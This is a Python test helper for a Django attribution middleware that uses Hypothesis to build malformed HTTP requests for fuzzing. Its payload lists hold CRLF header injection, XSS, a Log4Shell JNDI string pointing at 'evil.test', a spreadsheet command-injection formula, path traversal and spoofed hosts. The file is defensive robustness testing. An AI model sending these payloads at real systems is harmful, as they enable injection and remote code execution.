"""Requests as nobody's browser sends them, drawn by hypothesis, in the words of WSGI and of ASGI.

A request is drawn as bytes on the wire and told to either door as its protocol says. What the protocols let a server
leave out is left out now and then. Knows nothing of the site, nor of what should come of it.
"""

from collections.abc import Callable, Collection, Mapping, Sequence
from dataclasses import dataclass
from io import BytesIO
from typing import Any

from hypothesis import strategies as st

from django_attribution.tracking import CLICK_IDS_BY_PARAMETER, UTM_PARAMETERS
from tests.browsers import COOKIE, NAVIGATION

HUGE = 100_000  # bytes
LONG_PATH = 8_000  # bytes, as servers allow; of 100 kB that are no UTF-8 Django itself makes half a second's work
CROWD = 10_000  # parameters

NASTY = (
    b"\x00", b"%00", b"\r\nSet-Cookie: planted=1", b"%0d%0aX-Planted:%201", b"\n", b"\x7f\x85\x1b[31m",
    b"\xff\xfe", b"%FF%FE", b"%", b"%%", b"%zz", b"%u0041", b"%F0%9F%92", b"\xf0\x9f\x92\xa9", b"\xc0\xaf",
    b"\xed\xa0\x80", b"%ED%A0%80", b"%ED%BF%BF", b"\xe2\x80\xae", b"%E2%80%AEgpj", b"%EF%BB%BF", b"%EF%BF%BF",
    b"=", b"&", b";", b"+", b",", b"#", b"?", b"/../", b"//", b"\\", b"@", b":", b"[", b"]", b'"', b"'--",
    b"<script>alert(1)</script>", b"javascript:alert(1)", b"=cmd|' /C calc'!A0", b"${jndi:ldap://evil.test}", b"%s%d",
    b"google", b"cpc", b"1" * 400, b" ", b"%20", b"%2525",
)  # fmt: skip

PATHS = (
    b"/plain/", b"/plain/", b"/plain/", b"/mirror/", b"/mirror/", b"/async/", b"/moved/", b"/stream/", b"/broken/",
    b"/public/", b"/who/", b"/plain", b"/api/plain/", b"/nowhere/", b"/", b"", b"*", b"//evil.test/", b"/plain/../",
    b"/\x00/", b"/\xff/", b"/\xed\xa0\x80/", b"/plain/%2e%2e/", b"http://evil.test/plain/", b"/\xe2\x80\xae/",
)  # fmt: skip
METHODS = ("HEAD", "POST", "OPTIONS", "TRACE", "PUT", "PROPFIND", "get", "", "G\x00T", "CONNECT")
HOSTS = (
    b"testserver", b"testserver", b"testserver:443", b"testserver.", b"TESTSERVER", b"other.test", b"evil.test:99999",
    b"[::1]", b"[::1]:8000", b"[::", b"a" * 300, b"bad host", b"evil.test/path", b"\xff", b"\x00", b"", b"a,b", b":80",
    b"xn--mnchen-3ya.test", b"user@evil.test", b"-", b"..", b"127.0.0.1\r\nX: y",
)  # fmt: skip
REFERRERS = (
    b"https://www.google.com/search?q=me@example.com", b"https://t.co/x", b"javascript:alert(1)", b"http://[::1", b"//",
    b"http://evil.test:port/", b"https://testserver/mirror/", b"data:text/html,x", b"http://a\x00b.test/",
    b"http://\xff.test/", b"http://user:password@mail.test/inbox?token=1", b"http://xn--a.test/", b"http://[v1.x]/",
    b"http://\xe2\x84\x80.test/", b"https://" + b"a." * 2000 + b"test/", b"about:blank", b"http:///", b"HTTP://T.TEST/%",
)  # fmt: skip
AGENTS = (*(NAVIGATION["User-Agent"].encode(),) * 8, b"Googlebot/2.1", b"", b"curl/8.0", b"\x00", b"\xff" * 600)
FETCHES: dict[bytes, Sequence[bytes]] = {
    b"sec-fetch-mode": (b"navigate", b"navigate", b"navigate", b"cors", b"", b"\x00", b"NAVIGATE"),
    b"sec-fetch-dest": (b"document", b"document", b"iframe", b"image", b"\xff"),
    b"sec-fetch-site": (b"cross-site", b"none", b"same-origin", b"same-site", b"?"),
    b"accept": (b"text/html", b"*/*", b"image/png", b"\xff", b"text/html;q=\x00"),
    b"sec-purpose": (b"prefetch", b"prefetch;prerender", b"", b"\x00"),
    b"purpose": (b"preview", b"x"),
    b"x-moz": (b"prefetch",),
    b"x-requested-with": (b"XMLHttpRequest", b"\xff"),
    b"sec-gpc": (b"1", b" 1 ", b"0", b"1,1"),
    b"x-forwarded-host": (b"evil.test", b"\x00"),
    b"x-forwarded-proto": (b"https", b"javascript"),
    b"if-none-match": (b"*", b'"x"', b"\xff"),
    b"range": (b"bytes=0-1", b"bytes=-"),
    b"transfer-encoding": (b"chunked",),
    b"expect": (b"100-continue",),
}
BODIES = (
    (b"", b""),
    (b"application/x-www-form-urlencoded", b"a=1&b=%zz&utm_source=posted"),
    (b"multipart/form-data; boundary=x", b"--x\r\nContent-Disposition: form-data; name=a\r\n\r\n1\r\n--x--\r\n"),
    (b"multipart/form-data", b"--nothing"),
    (b"multipart/form-data; boundary=\xff", b"\x00"),
    (b"application/json; charset=nonsense", b'{"a":'),
    (b"text/plain; charset=\x00", b"\xff\xfe"),
)
LENGTHS = (b"0", b"-1", b"x", b"", b"99999999999999999999")
# What PEP 3333 and the ASGI specification let a server leave out, or leave empty.
MAY_MISS = (
    "QUERY_STRING", "PATH_INFO", "SCRIPT_NAME", "REMOTE_ADDR", "CONTENT_TYPE", "CONTENT_LENGTH", "host", "scheme",
    "root_path", "client", "server", "query_string", "user-agent",
)  # fmt: skip


@dataclass(frozen=True)
class HostileRequest:
    """A request on the wire."""

    method: str
    path: bytes  # percent-decoded, as servers hand it on
    query: bytes
    headers: Sequence[tuple[bytes, bytes]]
    body: bytes
    scheme: str
    mount: str
    missing: Collection[str]
    encoding: tuple[str, str]  # of the path for the application; a careless server's lets lone surrogates pass

    @property
    def sent(self) -> list[tuple[bytes, bytes]]:
        """The headers that are there."""
        return [(name, value) for name, value in self.headers if name.decode() not in self.missing]

    def says(self, name: bytes) -> bool:
        """Tell whether it has such a header."""
        return any(said == name for said, _ in self.sent)

    def environ(self) -> dict[str, Any]:
        """Tell it as a WSGI server does: bytes as latin-1 text, repeated headers in one."""
        environ: dict[str, Any] = {
            "REQUEST_METHOD": self.method,
            "SCRIPT_NAME": self.mount,
            "PATH_INFO": self.path.decode("latin-1" if self.encoding[1] == "replace" else "utf-8", self.encoding[1]),
            "QUERY_STRING": self.query.decode("latin-1"),
            "SERVER_NAME": "testserver",
            "SERVER_PORT": "80",
            "SERVER_PROTOCOL": "HTTP/1.1",
            "REMOTE_ADDR": "127.0.0.1",
            "wsgi.version": (1, 0),
            "wsgi.url_scheme": self.scheme,
            "wsgi.input": BytesIO(self.body),
            "wsgi.errors": BytesIO(),
            "wsgi.multithread": True,
            "wsgi.multiprocess": True,
            "wsgi.run_once": False,
        }
        for raw_name, raw_value in self.sent:
            name, value = raw_name.decode("latin-1").upper().replace("-", "_"), raw_value.decode("latin-1")
            key = name if name in ("CONTENT_TYPE", "CONTENT_LENGTH") else f"HTTP_{name}"
            separator = ";" if key == "HTTP_COOKIE" else ","
            environ[key] = f"{environ[key]}{separator}{value}" if key in environ else value
        return {name: value for name, value in environ.items() if name not in self.missing}

    def scope(self) -> dict[str, Any]:
        """Tell it as an ASGI server does."""
        scope = {
            "type": "http",
            "asgi": {"version": "3.0"},
            "http_version": "1.1",
            "method": self.method,
            "scheme": self.scheme,
            "path": self.mount + self.path.decode(*self.encoding),
            "root_path": self.mount,
            "query_string": self.query,
            "headers": self.sent,
            "client": ("127.0.0.1", 5000),
            "server": ("testserver", 80),
        }
        return {name: value for name, value in scope.items() if name not in self.missing}


_pieces = st.sampled_from(NASTY) | st.binary(max_size=6)
nasty = st.lists(_pieces, max_size=4).map(b"".join)
"""Bytes that something stumbles over."""
huge = st.sampled_from(NASTY[:30]).map(lambda piece: piece * (HUGE // len(piece)))
"""100 kB of them."""


def one_of_or_nasty(usual: Sequence[bytes]) -> st.SearchStrategy[bytes]:
    """Draw one of these, or what is no such thing at all."""
    return st.sampled_from([*[st.sampled_from(usual)] * 12, *[nasty] * 3, huge]).flatmap(lambda kind: kind)


_names = [name.encode() for name in (*UTM_PARAMETERS, *CLICK_IDS_BY_PARAMETER)]
_spelled = st.sampled_from([*_names, *map(bytes.upper, _names), *(name.replace(b"_", b"%5F") for name in _names)])
_values = st.sampled_from([*[nasty] * 15, huge]).flatmap(lambda kind: kind)
_pair = st.tuples(st.sampled_from([*[_spelled] * 4, nasty]).flatmap(lambda kind: kind), _values).map(b"=".join)
_queries = st.lists(_pair, max_size=4).map(b"&".join)
_crowds = st.sampled_from((b"utm_source=x&", b"a=%ff&", b"&", b"fbclid&", b"utm_term=%00&")).map(
    lambda one: one * CROWD
)


def cookies(known: Sequence[bytes]) -> st.SearchStrategy[bytes]:
    """Draw a Cookie header; ``known`` are pairs that mean something to the site."""
    name = st.sampled_from((COOKIE.encode(), b"sessionid", b"messages", b"a", b"\xff", b"__Host-a"))
    made_up = st.tuples(name, one_of_or_nasty(known)).map(b"=".join)
    pairs = st.lists(st.sampled_from(known) | made_up, min_size=1, max_size=3)
    return st.builds(bytes.join, st.sampled_from((b"; ", b"; ", b";", b",", b"\x00")), pairs)


def hostile_requests(*, known_cookies: Sequence[bytes]) -> st.SearchStrategy[HostileRequest]:
    """Draw landings with up to five things about them that no browser sends."""
    return _with_strange_parts({name: make(known_cookies) for name, make in _STRANGE.items()})


@st.composite
def _with_strange_parts(draw: st.DrawFn, parts: Mapping[str, st.SearchStrategy[Any]]) -> HostileRequest:
    drawn = {name: draw(parts[name]) for name in draw(_strange_parts)}
    body_type, body = drawn.get("body", (b"", b""))
    headers = [
        (b"host", drawn.get("host", b"testserver")),
        (b"user-agent", drawn.get("agent", AGENTS[0])),
        (b"accept", b"text/html"),
        *((b"cookie", value) for value in drawn.get("cookies", ())),
        *((b"referer", value) for value in drawn.get("referrers", ())),
        *drawn.get("fetches", ()),
    ]
    if body_type:
        length = drawn.get("length", b"%d" % len(body))
        headers += [(b"content-type", body_type), (b"content-length", length)]
    return HostileRequest(
        method=drawn.get("method", "GET"),
        path=drawn.get("path", b"/plain/"),
        query=drawn.get("query", b"utm_source=mail"),
        headers=headers,
        body=body,
        scheme=drawn.get("scheme", "http"),
        mount=drawn.get("mount", ""),
        missing=drawn.get("missing", ()),
        encoding=("utf-8", drawn.get("errors", "replace")),
    )


_fetch = st.sampled_from([(name, value) for name, values in FETCHES.items() for value in values])
_STRANGE: dict[str, Callable[[Sequence[bytes]], st.SearchStrategy[Any]]] = {
    "path": lambda _: one_of_or_nasty(PATHS).map(lambda path: path[:LONG_PATH]),
    "query": lambda _: st.sampled_from([*[_queries] * 30, _crowds]).flatmap(lambda kind: kind),
    "cookies": lambda known: st.lists(cookies(known), max_size=2),
    "referrers": lambda _: st.lists(one_of_or_nasty(REFERRERS), max_size=2),
    "host": lambda _: one_of_or_nasty(HOSTS),
    "agent": lambda _: one_of_or_nasty(AGENTS),
    "fetches": lambda _: st.lists(_fetch, max_size=4),
    "body": lambda _: st.sampled_from(BODIES),
    "length": lambda _: st.sampled_from(LENGTHS),
    "method": lambda _: st.sampled_from(METHODS),
    "scheme": lambda _: st.sampled_from(("https", "ws", "", "javascript")),
    "mount": lambda _: st.sampled_from(("/shop", "/\u00ff")),
    "missing": lambda _: st.sets(st.sampled_from(MAY_MISS), max_size=3),
    "errors": lambda _: st.sampled_from(("surrogateescape", "ignore")),
}
# The more there is to a part, the more often it is strange.
_strange_parts = st.lists(
    st.sampled_from([*("path", "query", "cookies", "referrers") * 3, *("host", "agent", "fetches") * 2, *_STRANGE]),
    max_size=5,
    unique=True,
)
